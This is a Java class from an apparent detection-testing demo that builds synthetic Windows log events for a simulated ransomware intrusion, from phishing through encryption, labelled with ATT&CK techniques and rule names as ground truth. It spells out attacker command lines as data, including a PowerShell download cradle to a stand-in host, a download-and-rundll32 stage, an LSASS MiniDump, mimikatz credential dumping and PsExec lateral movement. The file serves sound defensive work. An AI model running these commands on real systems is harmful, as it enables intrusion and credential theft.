package org.lovcen.demo;

import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.SplittableRandom;
import org.lovcen.demo.Org.Host;
import org.lovcen.demo.Org.Role;
import org.lovcen.demo.Org.User;
import org.lovcen.demo.Software.Proc;

/*
 * How and why: the intrusion follows the public advisory on the "Cuba" ransomware group, as it
 * hit state institutions in August 2022 (see SCENARIO.md, wave A): password spraying against
 * the remote desktop server, a phishing document, a PowerShell download cradle, a loader and a
 * RAT with COM-hijack persistence and HTTPS beaconing, discovery, a CLFS-style local privilege
 * escalation, LSASS dumping (comsvcs MiniDump and a mimikatz build), brute force of a service
 * account, PsExec and RDP lateral movement, Zerologon against the domain controller, a
 * vulnerable driver (ApcHelper.sys) to kill security products, and finally recovery inhibition
 * and encryption with the .cuba extension on several hosts at once.
 *
 * Every institution the actor hits sees the same tools, hashes, command lines and
 * infrastructure (the constants below), on its own hosts and users, starting later than the
 * previous one. The plan is small (hundreds of events per institution), built up front and
 * sorted; the generator merges it into the ordinary stream. Each planned event carries the
 * step, the ATT&CK technique and the project rules (file names under rules/lovcen) that must
 * match it, which become the ground truth.
 *
 * All names, domains and addresses are fictional; addresses come from the documentation ranges
 * (RFC 5737) so that nothing real is ever blocked because of the demo.
 */
/** Builds the attack events for one institution. Not thread-safe. */
final class AttackPlan {
  // ------------------------------------------------------------ the actor's infrastructure and tools
  static final String DOWNLOAD_HOST = "cdn.officeupdate-center.com";
  static final String DOWNLOAD_IP = "203.0.113.47";
  static final String C2_HOST = "api.telemetry-msn.net";
  static final String C2_IP = "198.51.100.77";
  static final String SPRAY_IP = "192.0.2.155";
  static final String CRADLE_URL = "http://" + DOWNLOAD_HOST + "/wp-content/uploads/2022/08/inv.ps1";
  static final String CRADLE = "IEX (New-Object Net.WebClient).DownloadString('" + CRADLE_URL + "')";
  static final String PHISH_DOC = "Obavjestenje_o_uplati_PDV.doc";
  static final String LOADER = "C:\\Users\\{u}\\AppData\\Local\\Temp\\vsbmr.dll";
  static final String RAT = "C:\\Users\\Public\\Libraries\\msdtcsvc.dll";
  static final String RAT_CLSID = "{0358B920-0AC7-461F-98F4-58E32CD89148}";
  static final String EXPLOIT = "C:\\Users\\Public\\Libraries\\clfsx.exe";
  static final String MIMIKATZ = "C:\\Windows\\Temp\\mk64.exe";
  static final String PSEXEC = "C:\\Users\\Public\\Libraries\\PsExec64.exe";
  static final String KILLER = "C:\\Windows\\Temp\\hlpsvc.exe";
  static final String DRIVER = "C:\\Windows\\Temp\\ApcHelper.sys";
  static final String ENCRYPTOR = "C:\\Windows\\Temp\\wdupd.exe";
  static final String NOTE = "!! READ ME !!.txt";

  static final String LOADER_HASHES = Software.hashes("actor:loader");
  static final String RAT_HASHES = Software.hashes("actor:rat");
  static final String EXPLOIT_HASHES = Software.hashes("actor:clfs");
  static final String MIMIKATZ_HASHES = Software.hashes("actor:mimikatz");
  static final String PSEXEC_HASHES = Software.hashes("actor:psexec");
  static final String KILLER_HASHES = Software.hashes("actor:killer");
  static final String DRIVER_HASHES = Software.hashes("actor:apchelper");
  static final String ENCRYPTOR_HASHES = Software.hashes("actor:encryptor");

  // ------------------------------------------------------------ rule file names (rules/lovcen)
  static final String R_PHISH = "file_event_win_lovcen_outlook_macro_document";
  static final String R_OFFICE = "proc_creation_win_lovcen_office_spawns_shell";
  static final String R_PS_CMD = "proc_creation_win_lovcen_powershell_download_cradle";
  static final String R_PS_SCRIPT = "posh_ps_lovcen_download_cradle";
  static final String R_RUNDLL = "proc_creation_win_lovcen_rundll32_user_writable_dll";
  static final String R_C2_NET = "net_connection_win_lovcen_cuba_campaign_c2";
  static final String R_C2_DNS = "dns_query_win_lovcen_cuba_campaign_c2";
  static final String R_COM = "registry_set_win_lovcen_com_hijack_user_writable";
  static final String R_DISCOVERY = "proc_creation_win_lovcen_domain_discovery";
  static final String R_PRIVESC = "proc_creation_win_lovcen_system_shell_from_user_path";
  static final String R_LSASS_CMD = "proc_creation_win_lovcen_lsass_dump_cmdline";
  static final String R_LSASS_ACCESS = "proc_access_win_lovcen_lsass_suspicious_access";
  static final String R_PSEXEC = "proc_creation_win_lovcen_psexec_lateral_movement";
  static final String R_ZEROLOGON = "win_security_lovcen_zerologon_anonymous_computer_change";
  static final String R_RDP = "win_security_lovcen_rdp_logon_from_workstation";
  static final String R_BYOVD = "driver_load_win_lovcen_byovd_apchelper";
  static final String R_RECOVERY = "proc_creation_win_lovcen_inhibit_system_recovery";
  static final String R_RANSOM = "file_event_win_lovcen_cuba_ransomware_files";
  static final String R_SVC_TEMP = "win_system_lovcen_service_from_temp_dir";
  // base rules of the correlations (rules/lovcen/correlations)
  static final String B_FAILED = "win_security_lovcen_failed_network_logon";
  static final String B_SUCCESS = "win_security_lovcen_successful_remote_logon";
  static final String B_STAGING = "proc_creation_win_lovcen_exec_from_staging_dir";
  static final String B_SERVICE = "win_system_lovcen_service_installed";

  /** The attack steps, in the order of the chain (ground-truth {@code step} values). */
  static final List<String> STEPS = List.of("password-spraying", "phishing-attachment", "macro-execution",
      "powershell-download-cradle", "loader-delivery", "loader-execution", "rat-execution", "rat-persistence",
      "c2-beacon", "discovery", "privilege-escalation", "credential-dumping", "brute-force",
      "lateral-movement-psexec", "zerologon", "rdp-lateral-movement", "defense-evasion-byovd", "persistence-service",
      "ransomware-deployment", "inhibit-recovery", "ransomware-encryption");

  /** Writes one planned event. */
  @FunctionalInterface
  interface Body {
    Channel write(Events ev);
  }

  /** One attack event: when, where, which step, and how to write it. */
  record Planned(long time, int seq, Host host, String step, String technique, List<String> rules, Body body) {}

  private static final long MIN = 60_000_000L;
  private static final long SEC = 1_000_000L;

  private final Org org;
  private final SplittableRandom r;
  private final long start;
  private final long end;
  private final double scale;
  private final List<Planned> out = new ArrayList<>();
  private int seq;

  private AttackPlan(Org org, SplittableRandom r, long start, long end, double scale) {
    this.org = org;
    this.r = r;
    this.start = start;
    this.end = end;
    this.scale = scale;
  }

  /**
   * The attack events for one institution, sorted by time; events falling outside
   * {@code [spanStart, spanEnd)} are left out.
   *
   * @param chainStart when the phishing document is opened
   * @param scale      1.0 for the full chain (about three hours); smaller squeezes it
   */
  static List<Planned> build(Org org, SplittableRandom r, long chainStart, double scale, long spanStart,
      long spanEnd) {
    AttackPlan p = new AttackPlan(org, r, spanStart, spanEnd, scale);
    p.chain(chainStart);
    p.out.sort(Comparator.comparingLong(Planned::time).thenComparingInt(Planned::seq));
    return p.out;
  }

  /**
   * Unrelated activity of an institution the actor does not hit, flagged by the same rules as
   * parts of the intrusion: an administrator lists domain controllers and the Enterprise Admins
   * from the admin server, and a vendor's updater is installed as a service from the Windows
   * temporary folder. Nothing in it (tool, hash, command line, address) is the actor's. Ground
   * truth step {@code unrelated-*}. Sorted by time.
   */
  static List<Planned> noise(Org org, SplittableRandom r, long spanStart, long spanEnd) {
    AttackPlan p = new AttackPlan(org, r, spanStart, spanEnd, 1.0);
    p.unrelated(spanStart + (spanEnd - spanStart) / 3 + r.nextLong(30 * MIN));
    p.out.sort(Comparator.comparingLong(Planned::time).thenComparingInt(Planned::seq));
    return p.out;
  }

  private void unrelated(long t0) {
    Host adm = org.server(Role.ADMIN);
    User admin = org.admins.get(0);
    String acct = org.netbios + "\\" + admin.sam();
    String[][] checks = {
        {Software.SYS32 + "nltest.exe", "nltest.exe /dclist:" + org.dns, "T1018"},
        {Software.SYS32 + "net.exe", "net.exe group \"Enterprise Admins\" /domain", "T1069.002"},
    };
    for (int i = 0; i < checks.length; i++) {
      String[] c = checks[i];
      long ti = t0 + i * 90 * SEC;
      String parentCmd = "\"C:\\Windows\\system32\\cmd.exe\" ";
      add(ti, adm, "unrelated-admin-discovery", c[2], ev -> ev.processCreate(adm, ti, proc(c[0], c[1],
          Software.SYS32 + "cmd.exe", parentCmd, "Windows utility", c[0].substring(c[0].lastIndexOf('\\') + 1),
          Software.hashes(c[0])), acct, admin.sam(), null, pid(), r.nextLong(), pid(), r.nextLong(), "High",
          "0x" + Long.toHexString(r.nextLong(0x100000L, 0xFFFFFFL))), R_DISCOVERY);
    }
    Host fs = org.server(Role.FILE);
    String updater = "C:\\Windows\\Temp\\" + org.id + "-scan\\AgentUpdate_" + (4 + r.nextInt(5)) + ".exe";
    long tu = t0 + 47 * MIN;
    add(tu, fs, "unrelated-installer-service", "T1543.003", ev -> ev.serviceInstalled(fs, tu, "ScanAgentUpdate",
        updater + " /service", "user mode service", "demand start", "LocalSystem", "S-1-5-18"), R_SVC_TEMP, B_SERVICE);
  }

  private long at(long chainStart, double minutes) {
    return chainStart + (long) (minutes * scale * MIN);
  }

  private void add(long t, Host h, String step, String technique, Body body, String... rules) {
    if (t >= start && t < end) {
      out.add(new Planned(t, seq++, h, step, technique, List.of(rules), body));
    }
  }

  // ------------------------------------------------------------------ the chain

  private void chain(long t0) {
    Host p = org.workstations.get(r.nextInt(org.workstations.size()));
    Host dc = org.server(Role.DC);
    Host fs = org.server(Role.FILE);
    Host app = org.server(Role.APP);
    Host rds = org.server(Role.RDS);
    User victim = p.user;
    String u = victim.sam();
    String acct = org.netbios + "\\" + u;
    User admin = org.admins.get(0);

    spray(at(t0, -95), rds);

    // Phishing: the attachment is saved by Outlook and opened in Word.
    long t = at(t0, 0);
    long word = r.nextLong();
    int wordPid = pid();
    String doc = "C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q3K1ZT7B\\" + PHISH_DOC;
    add(t - 20 * SEC, p, "phishing-attachment", "T1566.001", ev -> ev.fileCreate(p, t - 20 * SEC,
        Software.OFFICE + "OUTLOOK.EXE", u, acct, pid(), r.nextLong(), doc, null), R_PHISH);
    add(t, p, "phishing-attachment", "T1566.001", ev -> ev.processCreate(p, t, proc(Software.OFFICE + "WINWORD.EXE",
        "\"" + Software.OFFICE + "WINWORD.EXE\" /n \"" + doc + "\" /o \"\"", Software.OFFICE + "OUTLOOK.EXE",
        "\"" + Software.OFFICE + "OUTLOOK.EXE\" ", "Microsoft Word", "WinWord.exe", Software.hashes(
            Software.OFFICE + "WINWORD.EXE")), acct, u, null, wordPid, word, pid(), r.nextLong(), "Medium", "0x2b5e1"));

    // The macro starts cmd, which starts the encoded PowerShell cradle.
    long t1 = t + 48 * SEC;
    long cmd = r.nextLong();
    int cmdPid = pid();
    String cmdLine = "cmd.exe /c powershell -nop -w hidden -ep bypass -enc " + Software.encode(CRADLE);
    add(t1, p, "macro-execution", "T1204.002", ev -> ev.processCreate(p, t1, proc(Software.SYS32 + "cmd.exe",
        cmdLine, Software.OFFICE + "WINWORD.EXE", "\"" + Software.OFFICE + "WINWORD.EXE\" /n \"" + doc + "\" /o \"\"",
        "Windows Command Processor", "Cmd.Exe", Software.hashes(Software.SYS32 + "cmd.exe")), acct, u, null,
        cmdPid, cmd, wordPid, word, "Medium", "0x2b5e1"), R_OFFICE);
    add(t1 + 1000, p, "macro-execution", "T1204.002", ev -> ev.processCreate4688(p, t1 + 1000, u, victim.sid(),
        0x2b5e1, cmdPid, Software.SYS32 + "cmd.exe", cmdLine, Software.OFFICE + "WINWORD.EXE", u, null, "S-1-16-8192"));
    long t2 = t1 + 400_000;
    long ps = r.nextLong();
    int psPid = pid();
    String psLine = "powershell  -nop -w hidden -ep bypass -enc " + Software.encode(CRADLE);
    add(t2, p, "powershell-download-cradle", "T1059.001", ev -> ev.processCreate(p, t2, proc(Software.POWERSHELL,
        psLine, Software.SYS32 + "cmd.exe", cmdLine, "Windows PowerShell", "PowerShell.EXE",
        Software.hashes(Software.POWERSHELL)), acct, u, null, psPid, ps, cmdPid, cmd, "Medium", "0x2b5e1"), R_PS_CMD);
    add(t2 + 900, p, "powershell-download-cradle", "T1059.001", ev -> ev.processCreate4688(p, t2 + 900, u,
        victim.sid(), 0x2b5e1, psPid, Software.POWERSHELL, psLine, Software.SYS32 + "cmd.exe", u, null, "S-1-16-8192"));
    add(t2 + 2 * SEC, p, "powershell-download-cradle", "T1059.001", ev -> ev.scriptBlock(p, t2 + 2 * SEC, CRADLE, u,
        psPid, victim.sid(), r.nextLong(), r.nextLong(), ""), R_PS_SCRIPT);
    add(t2 + 3 * SEC, p, "powershell-download-cradle", "T1071.001", ev -> ev.dns(p, t2 + 3 * SEC, Software.POWERSHELL,
        u, acct, psPid, ps, DOWNLOAD_HOST, DOWNLOAD_IP), R_C2_DNS);
    add(t2 + 3 * SEC + 200_000, p, "powershell-download-cradle", "T1071.001", ev -> ev.network(p,
        t2 + 3 * SEC + 200_000, Software.POWERSHELL, u, acct, psPid, ps, p.ip, 50_112, DOWNLOAD_IP, DOWNLOAD_HOST, 80,
        "http"), R_C2_NET);
    String stage2 = "$u='http://" + DOWNLOAD_HOST + "/wp-content/uploads/2022/08/vsb.dll'\n"
        + "$p=\"$env:TEMP\\vsbmr.dll\"\n(New-Object Net.WebClient).DownloadFile($u,$p)\n"
        + "Start-Process rundll32.exe -ArgumentList \"$p,BNJAFSRSQIX\" -WindowStyle Hidden";
    add(t2 + 5 * SEC, p, "loader-delivery", "T1105", ev -> ev.scriptBlock(p, t2 + 5 * SEC, stage2, u, psPid,
        victim.sid(), r.nextLong(), r.nextLong(), ""), R_PS_SCRIPT);
    add(t2 + 7 * SEC, p, "loader-delivery", "T1105", ev -> ev.fileCreate(p, t2 + 7 * SEC, Software.POWERSHELL, u,
        acct, psPid, ps, LOADER, null));

    // The loader runs through rundll32 and installs the RAT with COM-hijack persistence.
    long t3 = t2 + 9 * SEC;
    long loader = r.nextLong();
    int loaderPid = pid();
    String loaderCmd = "\"C:\\Windows\\System32\\rundll32.exe\" " + LOADER + ",BNJAFSRSQIX";
    add(t3, p, "loader-execution", "T1218.011", ev -> ev.processCreate(p, t3, proc(Software.SYS32 + "rundll32.exe",
        loaderCmd, Software.POWERSHELL, psLine, "Windows host process (Rundll32)", "RUNDLL32.EXE",
        Software.hashes(Software.SYS32 + "rundll32.exe")), acct, u, null, loaderPid, loader, psPid, ps, "Medium",
        "0x2b5e1"), R_RUNDLL);
    add(t3 + SEC, p, "loader-execution", "T1218.011", ev -> ev.imageLoad(p, t3 + SEC, Software.SYS32 + "rundll32.exe",
        u, acct, loaderPid, loader, LOADER, "-", "-", LOADER_HASHES, false, "-"));
    long t4 = at(t0, 4);
    add(t4, p, "rat-execution", "T1105", ev -> ev.fileCreate(p, t4, Software.SYS32 + "rundll32.exe", u, acct,
        loaderPid, loader, RAT, null));
    add(t4 + 2 * SEC, p, "rat-persistence", "T1546.015", ev -> ev.registrySet(p, t4 + 2 * SEC,
        Software.SYS32 + "rundll32.exe", victim.sid(), acct, loaderPid, loader,
        "HKU\\{u}_Classes\\CLSID\\" + RAT_CLSID + "\\InprocServer32\\(Default)", RAT), R_COM);
    long t5 = t4 + 20 * SEC;
    long rat = r.nextLong();
    int ratPid = pid();
    String ratCmd = "\"C:\\Windows\\System32\\rundll32.exe\" " + RAT + ",fwdTst";
    add(t5, p, "rat-execution", "T1218.011", ev -> ev.processCreate(p, t5, proc(Software.SYS32 + "rundll32.exe",
        ratCmd, Software.SYS32 + "rundll32.exe", loaderCmd, "Windows host process (Rundll32)", "RUNDLL32.EXE",
        Software.hashes(Software.SYS32 + "rundll32.exe")), acct, u, null, ratPid, rat, loaderPid, loader, "Medium",
        "0x2b5e1"), R_RUNDLL);
    add(t5 + SEC, p, "rat-execution", "T1218.011", ev -> ev.imageLoad(p, t5 + SEC, Software.SYS32 + "rundll32.exe",
        u, acct, ratPid, rat, RAT, "-", "-", RAT_HASHES, false, "-"));
    beacons(p, u, acct, ratPid, rat, t5 + 30 * SEC, at(t0, 200));

    // Discovery from the RAT.
    String[][] recon = {
        {Software.SYS32 + "whoami.exe", "whoami  /all", "T1033", ""},
        {Software.SYS32 + "net.exe", "net  group \"Domain Admins\" /domain", "T1069.002", R_DISCOVERY},
        {Software.SYS32 + "nltest.exe", "nltest  /domain_trusts /all_trusts", "T1482", R_DISCOVERY},
        {Software.SYS32 + "nltest.exe", "nltest  /dclist:" + org.dns, "T1018", R_DISCOVERY},
        {Software.SYS32 + "net.exe", "net  view /all /domain", "T1135", ""},
    };
    long t6 = at(t0, 11);
    for (int i = 0; i < recon.length; i++) {
      String[] c = recon[i];
      long ti = t6 + i * 40 * SEC + r.nextLong(10 * SEC);
      String parentCmd = "C:\\Windows\\system32\\cmd.exe /C " + c[1];
      String[] rules = c[3].isEmpty() ? new String[0] : new String[] {c[3]};
      add(ti, p, "discovery", c[2], ev -> ev.processCreate(p, ti, proc(c[0], c[1], Software.SYS32 + "cmd.exe",
          parentCmd, "Windows utility", c[0].substring(c[0].lastIndexOf('\\') + 1), Software.hashes(c[0])), acct, u,
          null, pid(), r.nextLong(), pid(), r.nextLong(), "Medium", "0x2b5e1"), rules);
    }

    // Local privilege escalation to SYSTEM (CLFS, CVE-2022-24521 style).
    long t7 = at(t0, 18);
    long expl = r.nextLong();
    int explPid = pid();
    add(t7, p, "privilege-escalation", "T1068", ev -> ev.fileCreate(p, t7, Software.SYS32 + "rundll32.exe", u, acct,
        ratPid, rat, EXPLOIT, null));
    add(t7 + 30 * SEC, p, "privilege-escalation", "T1068", ev -> ev.processCreate(p, t7 + 30 * SEC, proc(EXPLOIT,
        EXPLOIT + " -s 1", Software.SYS32 + "rundll32.exe", ratCmd, "-", "-", EXPLOIT_HASHES), acct, u, null,
        explPid, expl, ratPid, rat, "Medium", "0x2b5e1"), B_STAGING);
    long sysCmd = r.nextLong();
    int sysCmdPid = pid();
    add(t7 + 34 * SEC, p, "privilege-escalation", "T1068", ev -> ev.processCreate(p, t7 + 34 * SEC,
        proc(Software.SYS32 + "cmd.exe", "C:\\Windows\\system32\\cmd.exe", EXPLOIT, EXPLOIT + " -s 1",
            "Windows Command Processor", "Cmd.Exe", Software.hashes(Software.SYS32 + "cmd.exe")),
        "NT AUTHORITY\\SYSTEM", u, null, sysCmdPid, sysCmd, explPid, expl, "System", "0x3e7"), R_PRIVESC);

    // Credential dumping on patient zero: comsvcs MiniDump, then a mimikatz build.
    long t8 = at(t0, 23);
    lsassDump(p, t8, sysCmdPid, sysCmd, "C:\\Windows\\system32\\cmd.exe");
    mimikatz(p, t8 + 3 * MIN, sysCmdPid, sysCmd);

    // Brute force of the backup service account against the file server, then success.
    long t9 = at(t0, 32);
    bruteForce(t9, p, fs);

    // PsExec to the file server with the service account; mimikatz there.
    long t10 = t9 + 4 * MIN;
    long[] svc = psexec(t10, p, fs, org.svcBackup, sysCmdPid, sysCmd, "C:\\Windows\\system32\\cmd.exe");
    long t10b = t10 + 40 * SEC;
    add(t10b, fs, "credential-dumping", "T1570", ev -> ev.fileCreate(fs, t10b, "System", "SYSTEM",
        "NT AUTHORITY\\SYSTEM", 4, r.nextLong(), MIMIKATZ, null));
    mimikatz(fs, t10 + 90 * SEC, (int) svc[0], svc[1]);

    // Zerologon against the domain controller from patient zero.
    long t11 = at(t0, 52);
    add(t11 - 2 * SEC, dc, "zerologon", "T1210", ev -> ev.failedLogon(dc, t11 - 2 * SEC, dc.name + "$", org.netbios, 3, p.ip,
        50_433, p.name, "0xc000006a"), B_FAILED);
    add(t11 + 2 * SEC, dc, "zerologon", "T1210", ev -> ev.computerAccountChanged(dc, t11 + 2 * SEC, dc.name + "$",
        org.domainSid + "-1001", "ANONYMOUS LOGON", "S-1-5-7", "NT AUTHORITY", "8/22/2022 1:47:12 PM"), R_ZEROLOGON);
    long t11b = t11 + 90 * SEC;
    add(t11b, dc, "zerologon", "T1210", ev -> ev.logon(dc, t11b, "Administrator", org.domainSid + "-500",
        org.netbios, 3, p.ip, 50_512, p.name, 0x7a1b2c3L), B_SUCCESS);

    // RDP with the dumped admin account to the application server.
    long t12 = at(t0, 63);
    add(t12, p, "rdp-lateral-movement", "T1021.001", ev -> ev.processCreate(p, t12, proc(Software.SYS32 + "mstsc.exe",
        "\"C:\\Windows\\system32\\mstsc.exe\" /v:" + app.fqdn, Software.EXPLORER, Software.EXPLORER,
        "Remote Desktop Connection", "mstsc.exe", Software.hashes(Software.SYS32 + "mstsc.exe")), acct, u, null, pid(),
        r.nextLong(), pid(), r.nextLong(), "Medium", "0x2b5e1"));
    add(t12 + SEC, p, "rdp-lateral-movement", "T1021.001", ev -> ev.network(p, t12 + SEC,
        Software.SYS32 + "mstsc.exe", u, acct, pid(), r.nextLong(), p.ip, 51_002, app.ip, app.fqdn, 3389,
        "ms-wbt-server"));
    add(t12 + 9 * SEC, app, "rdp-lateral-movement", "T1021.001", ev -> ev.logon(app, t12 + 9 * SEC, admin.sam(),
        admin.sid(), org.netbios, 10, p.ip, 51_002, p.name, 0x9c3e1f2L), R_RDP, B_SUCCESS);
    add(t12 + 9 * SEC + 300, app, "rdp-lateral-movement", "T1021.001", ev -> ev.specialLogon(app,
        t12 + 9 * SEC + 300, admin.sam(), admin.sid(), 0x9c3e1f2L));

    // Kill security products on the file server with a vulnerable driver, in a new PsExec
    // session, and keep a service for the killer: four service installs within minutes.
    long t13 = at(t0, 78);
    long[] svc2 = psexec(t13 - MIN, p, fs, org.svcBackup, sysCmdPid, sysCmd, "C:\\Windows\\system32\\cmd.exe");
    byovd(fs, t13, (int) svc2[0], svc2[1]);
    long t13b = t13 + 2 * MIN;
    add(t13b, fs, "persistence-service", "T1543.003", ev -> ev.serviceInstalled(fs, t13b, "MsDtcUpdate", KILLER
        + " -svc", "user mode service", "auto start", "LocalSystem", org.svcBackup.sid()), R_SVC_TEMP, B_SERVICE);
    psexec(t13 + 4 * MIN, p, fs, org.svcBackup, sysCmdPid, sysCmd, "C:\\Windows\\system32\\cmd.exe");

    // Ransomware: deployment with PsExec from the file server to several hosts at once.
    long t14 = at(t0, 95);
    List<Host> targets = new ArrayList<>();
    targets.add(app);
    targets.add(p);
    for (int i = 0; targets.size() < Math.min(7, org.workstations.size() + 1); i++) {
      Host w = org.workstations.get(r.nextInt(org.workstations.size()));
      if (!targets.contains(w)) {
        targets.add(w);
      }
    }
    for (int i = 0; i < targets.size(); i++) {
      Host target = targets.get(i);
      long ti = t14 + (long) (i * 65 * SEC * Math.max(scale, 0.2)) + r.nextLong(20 * SEC);
      ransomware(ti, fs, target, admin);
    }
  }

  // ------------------------------------------------------------------ pieces of the chain

  private void spray(long t, Host rds) {
    String[] guesses = {"administrator", "admin", "test", "scanner", "backup", "helpdesk", "skener", "korisnik"};
    int n = Math.min(40, org.users.size() + guesses.length);
    for (int i = 0; i < n; i++) {
      boolean real = i >= guesses.length;
      String name = real ? org.users.get(i - guesses.length).sam() : guesses[i];
      long ti = t + (long) (i * 17 * SEC * Math.max(scale, 0.2)) + r.nextLong(8 * SEC);
      add(ti, rds, "password-spraying", "T1110.003", ev -> ev.failedLogon(rds, ti, name, org.netbios, 3, SPRAY_IP,
          40_000 + r.nextInt(20_000), "WIN-9OB7RK1JS3T", real ? "0xc000006a" : "0xc0000064"), B_FAILED);
    }
  }

  private void bruteForce(long t, Host src, Host target) {
    User svc = org.svcBackup;
    for (int i = 0; i < 18; i++) {
      long ti = t + i * 5 * SEC + r.nextLong(2 * SEC);
      add(ti, target, "brute-force", "T1110.001", ev -> ev.failedLogon(target, ti, svc.sam(), org.netbios, 3, src.ip,
          50_000 + r.nextInt(10_000), src.name, "0xc000006a"), B_FAILED);
    }
    long ok = t + 100 * SEC;
    add(ok, target, "brute-force", "T1110.001", ev -> ev.logon(target, ok, svc.sam(), svc.sid(), org.netbios, 3,
        src.ip, 50_999, src.name, 0x5e2f11aL), B_SUCCESS);
    add(ok + 200, target, "brute-force", "T1110.001", ev -> ev.specialLogon(target, ok + 200, svc.sam(), svc.sid(),
        0x5e2f11aL));
  }

  private void lsassDump(Host h, long t, int parentPid, long parent, String parentCmd) {
    String cmd = "\"C:\\Windows\\System32\\rundll32.exe\" C:\\Windows\\System32\\comsvcs.dll, MiniDump " + h.lsassPid
        + " C:\\Windows\\Temp\\dbg.dmp full";
    long g = r.nextLong();
    int pid = pid();
    add(t, h, "credential-dumping", "T1003.001", ev -> ev.processCreate(h, t, proc(Software.SYS32 + "rundll32.exe",
        cmd, Software.SYS32 + "cmd.exe", parentCmd, "Windows host process (Rundll32)", "RUNDLL32.EXE",
        Software.hashes(Software.SYS32 + "rundll32.exe")), "NT AUTHORITY\\SYSTEM", "SYSTEM", null, pid, g, parentPid,
        parent, "System", "0x3e7"), R_LSASS_CMD);
    add(t + SEC, h, "credential-dumping", "T1003.001", ev -> ev.processAccess(h, t + SEC,
        Software.SYS32 + "rundll32.exe", pid, g, Software.SYS32 + "lsass.exe", h.lsassPid, "0x1fffff",
        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
            + "C:\\Windows\\System32\\comsvcs.dll+2b8b1|C:\\Windows\\System32\\comsvcs.dll+2b4a1|"
            + "C:\\Windows\\system32\\rundll32.exe+3bd4", "NT AUTHORITY\\SYSTEM", "NT AUTHORITY\\SYSTEM"),
        R_LSASS_ACCESS);
    add(t + 3 * SEC, h, "credential-dumping", "T1003.001", ev -> ev.fileCreate(h, t + 3 * SEC,
        Software.SYS32 + "rundll32.exe", "SYSTEM", "NT AUTHORITY\\SYSTEM", pid, g, "C:\\Windows\\Temp\\dbg.dmp", null));
  }

  private void mimikatz(Host h, long t, int parentPid, long parent) {
    long g = r.nextLong();
    int pid = pid();
    String cmd = MIMIKATZ + " \"privilege::debug\" \"sekurlsa::logonpasswords\" \"exit\"";
    if (h.role == Role.WORKSTATION) {
      add(t - 20 * SEC, h, "credential-dumping", "T1003.001", ev -> ev.fileCreate(h, t - 20 * SEC,
          Software.SYS32 + "cmd.exe", "SYSTEM", "NT AUTHORITY\\SYSTEM", parentPid, parent, MIMIKATZ, null));
    }
    add(t, h, "credential-dumping", "T1003.001", ev -> ev.processCreate(h, t, proc(MIMIKATZ, cmd,
        Software.SYS32 + "cmd.exe", "C:\\Windows\\system32\\cmd.exe", "mimikatz for Windows", "mimikatz.exe",
        MIMIKATZ_HASHES), "NT AUTHORITY\\SYSTEM", "SYSTEM", null, pid, g, parentPid, parent, "System", "0x3e7"),
        R_LSASS_CMD, B_STAGING);
    add(t + 2 * SEC, h, "credential-dumping", "T1003.001", ev -> ev.processAccess(h, t + 2 * SEC, MIMIKATZ, pid, g,
        Software.SYS32 + "lsass.exe", h.lsassPid, "0x1010",
        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|" + MIMIKATZ + "+7e1a2|"
            + MIMIKATZ + "+5c2f0", "NT AUTHORITY\\SYSTEM", "NT AUTHORITY\\SYSTEM"), R_LSASS_ACCESS);
  }

  /**
   * PsExec from {@code src} to {@code dst}: the local command, the network logon, the service
   * installation and the service process. Returns the PSEXESVC pid and GUID for the payload.
   */
  private long[] psexec(long t, Host src, Host dst, User user, int parentPid, long parent, String parentCmd) {
    String srcAcct = src.role == Role.WORKSTATION ? "NT AUTHORITY\\SYSTEM" : org.netbios + "\\" + user.sam();
    String cmd = PSEXEC + " \\\\" + dst.name + " -accepteula -u " + org.netbios + "\\" + user.sam()
        + " -p ******** -s -d cmd.exe";
    long g = r.nextLong();
    int pid = pid();
    add(t, src, "lateral-movement-psexec", "T1569.002", ev -> ev.processCreate(src, t, new Proc(PSEXEC, cmd,
        Software.SYS32 + "cmd.exe", parentCmd, true, "Execute processes remotely", "Sysinternals PsExec",
        "Sysinternals - www.sysinternals.com", "psexec.c", PSEXEC_HASHES), srcAcct, "SYSTEM", null, pid, g, parentPid,
        parent, "System", "0x3e7"), R_PSEXEC, B_STAGING);
    add(t + SEC, src, "lateral-movement-psexec", "T1021.002", ev -> ev.network(src, t + SEC, PSEXEC, "SYSTEM",
        srcAcct, pid, g, src.ip, 52_000 + r.nextInt(9000), dst.ip, dst.fqdn, 445, "microsoft-ds"));
    long logonId = r.nextLong(0x1000000L, 0xFFFFFFFL);
    long tl = t + 2 * SEC;
    add(tl, dst, "lateral-movement-psexec", "T1021.002", ev -> ev.logon(dst, tl, user.sam(), user.sid(), org.netbios,
        3, src.ip, 52_000 + r.nextInt(9000), src.name, logonId), B_SUCCESS);
    add(tl + 100, dst, "lateral-movement-psexec", "T1021.002", ev -> ev.specialLogon(dst, tl + 100, user.sam(),
        user.sid(), logonId));
    add(tl + SEC, dst, "lateral-movement-psexec", "T1570", ev -> ev.fileCreate(dst, tl + SEC, "System", "SYSTEM",
        "NT AUTHORITY\\SYSTEM", 4, r.nextLong(), "C:\\Windows\\PSEXESVC.exe", null));
    add(tl + 2 * SEC, dst, "lateral-movement-psexec", "T1569.002", ev -> ev.serviceInstalled(dst, tl + 2 * SEC,
        "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe", "user mode service", "demand start", "LocalSystem", user.sid()),
        B_SERVICE);
    add(tl + 2 * SEC + 50, dst, "lateral-movement-psexec", "T1569.002", ev -> ev.serviceInstallAudit(dst,
        tl + 2 * SEC + 50, user.sam(), user.sid(), logonId, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe", "0x10"));
    long svc = r.nextLong();
    int svcPid = pid();
    add(tl + 3 * SEC, dst, "lateral-movement-psexec", "T1569.002", ev -> ev.processCreate(dst, tl + 3 * SEC,
        proc("C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", Software.SERVICES, Software.SERVICES,
            "PsExec Service", "psexesvc.exe", Software.hashes("actor:psexesvc")), "NT AUTHORITY\\SYSTEM", "SYSTEM",
        null, svcPid, svc, 700, r.nextLong(), "System", "0x3e7"), R_PSEXEC);
    return new long[] {svcPid, svc};
  }

  private void byovd(Host h, long t, int parentPid, long parent) {
    long g = r.nextLong();
    int pid = pid();
